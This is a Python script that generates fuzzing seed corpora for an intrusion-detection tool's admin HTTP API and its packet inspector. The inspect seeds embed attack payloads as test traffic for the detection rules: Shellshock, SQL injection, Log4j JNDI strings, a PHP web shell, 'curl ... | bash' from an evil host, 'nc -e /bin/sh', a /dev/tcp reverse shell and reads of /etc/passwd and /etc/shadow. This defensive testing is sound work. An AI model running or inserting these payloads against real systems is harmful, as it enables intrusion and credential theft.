#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Write the seed corpora of fuzz_http and fuzz_inspect (tests/fuzz/corpus/http, .../inspect).

fuzz_http: raw requests as a client writes them; @TOKEN@ stands for the admin token and @PORT@
for the server's port (tests/fuzz/fuzz_http.c). The seeds include what issue 17 found by hand:
malformed HTTP, foreign Host and Origin, huge and deeply nested YAML and JSON bodies, a since
far out of range (since=-666666619m), invalid UTF-8 and NUL in policy and signature texts,
CR/LF in blocklist reasons.

fuzz_inspect: byte 0 (bit 0 TCP, bits 1-4 port index, bit 5 IPv6, bit 6 client inside) and pieces [a b data]
(tests/fuzz/fuzz_inspect.c), with payloads the shipped rules (conf/signatures) are written
for, and the usual protocols' sessions.

Run by hand after changing the cases; commit the output:
    /usr/bin/python3 tests/fuzz/gen_http_corpus.py
"""
import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))


def write(sub, name, data):
    d = os.path.join(HERE, "corpus", sub)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def req(method, path, body=None, ctype=None, token=True, host="127.0.0.1:@PORT@", extra=(),
        close=True):
    h = [f"{method} {path} HTTP/1.1", f"Host: {host}"]
    if token:
        h.append("Authorization: Bearer @TOKEN@")
    if ctype:
        h.append(f"Content-Type: {ctype}")
    h.extend(extra)
    b = body if isinstance(body, bytes) else (body or "").encode()
    if body is not None:
        h.append(f"Content-Length: {len(b)}")
    if close:
        h.append("Connection: close")
    return ("\r\n".join(h) + "\r\n\r\n").encode() + b


def http_corpus():
    d = os.path.join(HERE, "corpus", "http")
    shutil.rmtree(d, ignore_errors=True)
    J = "application/json"
    Y = "application/yaml"
    # Ordinary requests, each role's way in.
    write("http", "health", req("GET", "/api/v1/health", token=False))
    write("http", "status-loopback-viewer", req("GET", "/api/v1/status", token=False))
    write("http", "status-admin", req("GET", "/api/v1/status"))
    write("http", "metrics", req("GET", "/metrics"))
    write("http", "openapi-head", req("HEAD", "/api/v1/openapi.json", token=False))
    write("http", "mode-set", req("PUT", "/api/v1/mode", '{"mode": "dry-run"}', J))
    write("http", "mode-set-keepalive", req("PUT", "/api/v1/mode", '{"mode": "dry-run"}', J,
                                            close=False))
    write("http", "mode-set-unauth", req("PUT", "/api/v1/mode", '{"mode": "dry-run"}', J,
                                         token=False))
    write("http", "bad-token", req("GET", "/api/v1/audit",
                                   extra=["Authorization: Bearer nope"], token=False))
    write("http", "basic-auth", req("GET", "/api/v1/audit", token=False,
                                    extra=["Authorization: Basic YWRhOmFkYQ=="]))
    write("http", "policy-get", req("GET", "/api/v1/policy"))
    write("http", "policy-put-yaml", req("PUT", "/api/v1/policy",
                                         "version: 1\ndefault: allow\nrules: []\n", Y,
                                         extra=['If-Match: "1"']))
    write("http", "policy-put-json", req("PUT", "/api/v1/policy",
                                         '{"text": "version: 1\\ndefault: drop\\nrules: []\\n"}',
                                         J))
    write("http", "signatures-put", req(
        "PUT", "/api/v1/signatures",
        'alert tcp any any -> any 80 (msg:"x"; content:"evil"; sid:9999001; rev:1;)\n',
        "text/plain", extra=["If-Match: *"]))
    write("http", "signatures-validate", req("POST", "/api/v1/signatures/validate",
                                             'alert tcp any any -> any any (sid:1; content:"a)\n',
                                             "text/plain"))
    write("http", "blocklist-add", req("POST", "/api/v1/blocklist",
                                       '{"address": "192.0.2.7", "ttl": 60, "reason": "scan"}',
                                       J))
    write("http", "blocklist-del", req("DELETE", "/api/v1/blocklist/192.0.2.7"))
    write("http", "alerts-filter", req("GET", "/api/v1/alerts?since=-15m&limit=5&sid=9000001"))
    write("http", "versions-rollback", req("POST", "/api/v1/policy/rollback", '{"version": 1}',
                                           J))
    write("http", "pipelined",
          req("GET", "/api/v1/health", close=False) + req("GET", "/api/v1/mode"))
    write("http", "chunked", req("PUT", "/api/v1/mode", None, J,
                                 extra=["Transfer-Encoding: chunked"])
          + b'13\r\n{"mode": "dry-run"}\r\n0\r\n\r\n')
    # Issue 17: malformed HTTP.
    write("http", "garbage", b"GARBAGE\r\n\r\n")
    write("http", "no-version", b"GET /api/v1/health\r\n\r\n")
    write("http", "http09", b"GET /\r\n")
    write("http", "version-9", b"GET /api/v1/health HTTP/9.9\r\nHost: 127.0.0.1:@PORT@\r\n\r\n")
    write("http", "tls-hello", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32))
    write("http", "bare-lf", b"GET /api/v1/health HTTP/1.1\nHost: 127.0.0.1:@PORT@\n\n")
    write("http", "no-host", b"GET /api/v1/health HTTP/1.1\r\n\r\n")
    write("http", "space-colon", b"GET /api/v1/health HTTP/1.1\r\nHost : x\r\n\r\n")
    write("http", "bad-chunk", req("PUT", "/api/v1/mode", None, J,
                                   extra=["Transfer-Encoding: chunked"]) + b"ZZ\r\n{}\r\n0\r\n\r\n")
    write("http", "huge-chunk", req("PUT", "/api/v1/mode", None, J,
                                    extra=["Transfer-Encoding: chunked"])
          + b"fffffffffffffffffffff\r\n{}\r\n0\r\n\r\n")
    write("http", "two-lengths", b"PUT /api/v1/mode HTTP/1.1\r\nHost: 127.0.0.1:@PORT@\r\n"
          b"Authorization: Bearer @TOKEN@\r\nContent-Type: application/json\r\n"
          b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{} ")
    write("http", "length-and-chunked", b"PUT /api/v1/mode HTTP/1.1\r\nHost: 127.0.0.1:@PORT@\r\n"
          b"Authorization: Bearer @TOKEN@\r\nContent-Length: 2\r\n"
          b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n")
    write("http", "negative-length", req("PUT", "/api/v1/mode", None, J,
                                         extra=["Content-Length: -5"]) + b"{}")
    write("http", "length-over-limit", req("PUT", "/api/v1/policy", None, J,
                                           extra=["Content-Length: 99999999999"]) + b"{")
    write("http", "partial-body", req("PUT", "/api/v1/mode", None, J,
                                      extra=["Content-Length: 100"]) + b'{"mo')
    write("http", "partial-headers", b"GET /api/v1/health HTTP/1.1\r\nHost: 127.0")
    write("http", "unknown-method", req("BREW", "/api/v1/health"))
    write("http", "absolute-uri", req("GET", "http://127.0.0.1:@PORT@/api/v1/health"))
    write("http", "dot-segments", req("GET", "/api/v1/../v1/./status"))
    write("http", "percent-path", req("GET", "/api/v1/blocklist/%00%ff%2f..%2f"))
    write("http", "query-only", b"GET ?a=b HTTP/1.1\r\nHost: 127.0.0.1:@PORT@\r\n\r\n")
    write("http", "many-query", req("GET", "/api/v1/flows?" + "&".join(
        f"k{i}=v" for i in range(80))))
    write("http", "nul-in-header", b"GET /api/v1/health HTTP/1.1\r\nHost: 127.0.0.1:@PORT@\r\n"
          b"X-A: a\x00b\r\n\r\n")
    write("http", "obs-fold", b"GET /api/v1/health HTTP/1.1\r\nHost: 127.0.0.1:@PORT@\r\n"
          b"X-A: a\r\n  folded\r\n\r\n")
    write("http", "long-header", b"GET /api/v1/health HTTP/1.1\r\nHost: 127.0.0.1:@PORT@\r\n"
          b"X-Big: " + b"a" * 3000 + b"\r\n\r\n")
    # Issue 17: foreign Host and Origin (DNS rebinding, cross-site writes).
    write("http", "host-foreign", req("GET", "/api/v1/status", host="evil.example"))
    write("http", "host-foreign-port", req("GET", "/api/v1/status", host="127.0.0.1:1"))
    write("http", "host-v6", req("GET", "/api/v1/status", host="[::1]:@PORT@"))
    write("http", "host-v6-bad", req("GET", "/api/v1/status", host="[::1"))
    write("http", "host-extra", req("GET", "/api/v1/status", host="vigil.example:@PORT@"))
    write("http", "host-two", b"GET /api/v1/status HTTP/1.1\r\nHost: 127.0.0.1:@PORT@\r\n"
          b"Host: evil.example\r\n\r\n")
    write("http", "host-empty", req("GET", "/api/v1/status", host=""))
    write("http", "origin-foreign", req("PUT", "/api/v1/mode", '{"mode": "dry-run"}', J,
                                        extra=["Origin: http://evil.example"]))
    write("http", "origin-null", req("PUT", "/api/v1/mode", '{"mode": "dry-run"}', J,
                                     extra=["Origin: null"]))
    write("http", "origin-own", req("PUT", "/api/v1/mode", '{"mode": "dry-run"}', J,
                                    extra=["Origin: http://127.0.0.1:@PORT@"]))
    write("http", "origin-unauth", req("PUT", "/api/v1/mode", '{"mode": "dry-run"}', J,
                                       token=False, extra=["Origin: http://evil.example"]))
    # Issue 17: huge and deep YAML and JSON bodies.
    write("http", "yaml-deep", req("PUT", "/api/v1/policy", "a: " + "[" * 5000 + "]" * 5000, Y))
    write("http", "yaml-deep-map", req("PUT", "/api/v1/policy",
                                       "".join("  " * i + f"k{i}:\n" for i in range(200)), Y))
    write("http", "yaml-aliases", req("PUT", "/api/v1/policy",
                                      "a: &a [x, x, x, x, x, x, x, x, x]\n"
                                      "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                                      "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
                                      "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
                                      "e: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n", Y))
    write("http", "yaml-huge", req("PUT", "/api/v1/policy",
                                   "rules:\n" + "".join(f"  - {{name: r{i}, action: allow}}\n"
                                                        for i in range(1500)), Y))
    write("http", "json-deep", req("PUT", "/api/v1/policy", "[" * 20000 + "]" * 20000, J))
    write("http", "json-wrapper-deep", req("PUT", "/api/v1/policy",
                                           '{"text": "x", "x": ' + "{\"a\":" * 3000 + "1"
                                           + "}" * 3001, J))
    # Issue 17: since far out of range, and other query values.
    write("http", "since-overflow", req("GET", "/api/v1/alerts?since=-666666619m"))
    write("http", "since-huge", req("GET", "/api/v1/flows/history?since=99999999999999999999s"))
    write("http", "since-unit", req("GET", "/api/v1/anomalies?since=10q&until=-1"))
    write("http", "limit-neg", req("GET", "/api/v1/audit?limit=-1&offset=18446744073709551615"))
    # Issue 17: invalid UTF-8 and NUL in texts; CR/LF in blocklist reasons.
    write("http", "policy-bad-utf8", req("PUT", "/api/v1/policy",
                                         b"version: 1\ndefault: allow\n# \xc3\x28 \xff\xfe\n", Y))
    write("http", "policy-nul", req("PUT", "/api/v1/policy",
                                    b"version: 1\ndefault: allow\x00\nrules: []\n", Y))
    write("http", "signatures-bad-utf8", req(
        "PUT", "/api/v1/signatures",
        b'alert tcp any any -> any any (msg:"\xed\xa0\x80 \xc0\xaf"; content:"a"; sid:9999002;)\n',
        "text/plain"))
    write("http", "signatures-nul", req(
        "PUT", "/api/v1/signatures",
        b'alert tcp any any -> any any (msg:"a\x00b"; content:"a"; sid:9999003;)\n',
        "text/plain"))
    write("http", "json-text-nul", req("PUT", "/api/v1/signatures",
                                       '{"text": "alert tcp any any -> any any '
                                       '(msg:\\"a\\u0000b\\"; sid:9999004;)"}', J))
    write("http", "blocklist-crlf", req("POST", "/api/v1/blocklist",
                                        '{"address": "192.0.2.9", "ttl": 60, '
                                        '"reason": "a\\r\\nX-Injected: 1\\n"}', J))
    write("http", "blocklist-bad-utf8", req("POST", "/api/v1/blocklist",
                                            b'{"address": "192.0.2.9", "reason": "\xff\xfe"}',
                                            J))
    write("http", "blocklist-nul-addr", req("POST", "/api/v1/blocklist",
                                            '{"address": "192.0.2.9\\u0000x", "reason": "r"}',
                                            J))


def piece(data, to_client=False, close=False):
    b = data if isinstance(data, bytes) else data.encode()
    assert len(b) < 1 << 14
    a = (0x80 if to_client else 0) | (0x40 if close else 0) | (len(b) >> 8)
    return bytes([a, len(b) & 0xff]) + b


PORTS = [80, 53, 21, 25, 22, 443, 445, 4444, 8080, 23, 143, 110, 161, 69, 139, 1434]


def flow(tcp, port, pieces, v6=False, inside=False):
    return bytes([(1 if tcp else 0) | (PORTS.index(port) << 1) | (0x20 if v6 else 0)
                  | (0x40 if inside else 0)]) \
        + b"".join(pieces)


def dns_query(name, qtype=1, resp=False):
    q = b"\x12\x34" + (b"\x81\x80" if resp else b"\x01\x00") + b"\x00\x01" \
        + (b"\x00\x01" if resp else b"\x00\x00") + b"\x00\x00\x00\x00"
    for lab in name.split("."):
        q += bytes([len(lab)]) + lab.encode()
    q += b"\x00" + qtype.to_bytes(2, "big") + b"\x00\x01"
    if resp:
        q += b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xc0\x00\x02\x01"
    return q


def inspect_corpus():
    d = os.path.join(HERE, "corpus", "inspect")
    shutil.rmtree(d, ignore_errors=True)
    w = lambda n, b: write("inspect", n, b)
    w("http-get", flow(True, 80, [
        piece("GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: curl/8\r\n\r\n"),
        piece("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello", to_client=True)]))
    w("http-traversal", flow(True, 80, [
        piece("GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n"),
        piece("HTTP/1.1 200 OK\r\nContent-Length: 30\r\n\r\nroot:x:0:0:root:/root:/bin/sh\n",
              to_client=True, close=True)]))
    w("http-split-segments", flow(True, 80, [
        piece("GET /cgi-bin/.."), piece("/../etc/pa"), piece("sswd HTTP/1.1\r\nHost: x\r\n\r\n"),
        piece("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n", to_client=True)]))
    w("http-shellshock", flow(True, 80, [
        piece("GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; "
              "/bin/bash -c 'cat /etc/passwd'\r\n\r\n")]))
    w("http-sqli", flow(True, 80, [
        piece("GET /item?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1\r\n"
              "Host: x\r\n\r\n")]))
    w("http-log4j", flow(True, 80, [
        piece("GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://198.51.100.9/a}\r\n\r\n")]))
    w("http-post-chunked", flow(True, 80, [
        piece("POST /upload.php HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
              "1a\r\n<?php system($_GET['c']); ?>\r\n0\r\n\r\n"),
        piece("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", to_client=True, close=True),
        piece("", close=True)]))
    w("http-v6", flow(True, 80, [piece("GET /wp-login.php HTTP/1.1\r\nHost: x\r\n\r\n")], v6=True))
    # What the shipped rules are written for (tests/unit/detect/test_det_shipped.c).
    for i, (port, text) in enumerate([
            (8080, "GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n"),
            (8080, "GET /?x=${${lower:j}ndi:ldap://evil/a} HTTP/1.1\r\n"),
            (80, "POST /x?class.module.classLoader.URLs%5B0%5D=0 HTTP/1.1\r\n"),
            (80, "GET /item?id=1+UNION+ALL+SELECT+pass+FROM+users HTTP/1.1\r\n"),
            (80, "GET /login?u=admin' or '1'='1 HTTP/1.1\r\n"),
            (80, "GET /ping?h=1;wget http://x/y HTTP/1.1\r\n"),
            (21, "USER root\r\n"),
            (4444, "curl -s http://evil/x.sh | bash\n"),
            (4444, "nc -e /bin/sh 198.51.100.7 4444\n"),
            (80, "GET /?a=IEX(New-Object Net.WebClient).DownloadString('x')\r\n"),
            (80, "GET /up/s.php?cmd=id HTTP/1.1\r\n")]):
        w(f"shipped-{i:02d}", flow(True, port, [piece(text)]))
    for i, body in enumerate([
            b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n\x7fELF\x02\x01\x01",
            b"HTTP/1.0 200 OK\r\n\r\n#!/bin/sh\nwget x\n",
            b"HTTP/1.1 200 OK\r\n\r\nMZ\x90\x01\x02\x03 This program cannot be run in DOS mode."]):
        w(f"shipped-download-{i}", flow(True, 80, [piece("GET /f HTTP/1.1\r\nHost: x\r\n\r\n"),
                                                  piece(body, to_client=True, close=True)],
                                                  inside=True))
    # ET Open's protocols (the rules are not in the repo; these are ordinary sessions).
    w("telnet", flow(True, 23, [piece(b"\xff\xfd\x18\xff\xfd\x20", to_client=True),
                                piece("root\r\n"), piece("Password: ", to_client=True)]))
    w("imap", flow(True, 143, [piece("* OK IMAP4rev1 ready\r\n", to_client=True),
                               piece("a001 LOGIN " + "A" * 300 + " x\r\n")]))
    w("pop3", flow(True, 110, [piece("+OK ready\r\n", to_client=True), piece("USER x\r\n"),
                               piece("PASS " + "%s" * 40 + "\r\n")]))
    w("snmp", flow(False, 161, [piece(bytes.fromhex(
        "302602010104067075626c6963a01902046b1c5a3d020100020100300b300906052b060102010500"))]))
    w("tftp", flow(False, 69, [piece(b"\x00\x01../../etc/passwd\x00octet\x00")]))
    w("netbios", flow(True, 139, [piece(b"\x81\x00\x00\x44" + b" CKFDENECFDEFFCFGEFFCCACACACACACA\x00" * 2)]))
    w("mssql-worm", flow(False, 1434, [piece(b"\x04" + b"\x01" * 96 + b"sock")]))
    w("shell-reverse", flow(True, 4444, [
        piece("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n"),
        piece("uid=0(root) gid=0(root) groups=0(root)\n", to_client=True)]))
    w("shell-id-output", flow(True, 4444, [
        piece("id\n"), piece("uid=0(root) gid=0(root)\n", to_client=True),
        piece("cat /etc/shadow\n", close=True)]))
    w("dns-query", flow(False, 53, [piece(dns_query("www.example.com")),
                                     piece(dns_query("www.example.com", resp=True),
                                           to_client=True)]))
    w("dns-long-txt", flow(False, 53, [piece(dns_query(
        "aGVsbG8gd29ybGQgdGhpcyBpcyBleGZpbHRyYXRpb24." + "x" * 60 + ".tunnel.example", 16))]))
    w("dns-any", flow(False, 53, [piece(dns_query("example.org", 255))]))
    w("dns-tcp", flow(True, 53, [piece(len(dns_query("a.example")).to_bytes(2, "big")
                                       + dns_query("a.example"))]))
    w("ftp-session", flow(True, 21, [
        piece("220 ftp ready\r\n", to_client=True), piece("USER anonymous\r\n"),
        piece("331 pass\r\n", to_client=True), piece("PASS a@b\r\n"),
        piece("230 ok\r\n", to_client=True), piece("SITE EXEC /bin/sh\r\n"),
        piece("RETR ../../etc/passwd\r\n", close=True)]))
    w("smtp-session", flow(True, 25, [
        piece("220 mail ESMTP\r\n", to_client=True), piece("EHLO x\r\n"),
        piece("250 ok\r\n", to_client=True), piece("MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"),
        piece("354 go\r\n", to_client=True),
        piece("Subject: invoice\r\n\r\nsee attached .exe\r\n.\r\n"),
        piece("250 ok\r\n", to_client=True, close=True)]))
    w("ssh-banner", flow(True, 22, [piece("SSH-2.0-libssh_0.6.0\r\n"),
                                     piece("SSH-2.0-OpenSSH_7.4\r\n", to_client=True)]))
    w("tls-hello", flow(True, 443, [piece(bytes.fromhex(
        "16030100a5010000a10303") + bytes(32) + bytes.fromhex(
        "000004c02fc0300100007400000013001100000e7777772e6578616d706c652e636f6d"))]))
    w("smb-probe", flow(True, 445, [piece(b"\x00\x00\x00\x2f\xffSMBr" + bytes(39))]))
    w("nmap-udp", flow(False, 4444, [piece(b"\x00" * 8), piece(b"", to_client=True)]))
    w("binary-junk", flow(True, 4444, [piece(bytes(range(256)) * 4)]))
    w("empty-pieces", flow(True, 80, [piece(""), piece("", to_client=True), piece("", close=True)]))
    w("after-close", flow(True, 80, [piece("GET / HTTP/1.1\r\n", close=True),
                                      piece("Host: x\r\n\r\n")]))


if __name__ == "__main__":
    http_corpus()
    inspect_corpus()
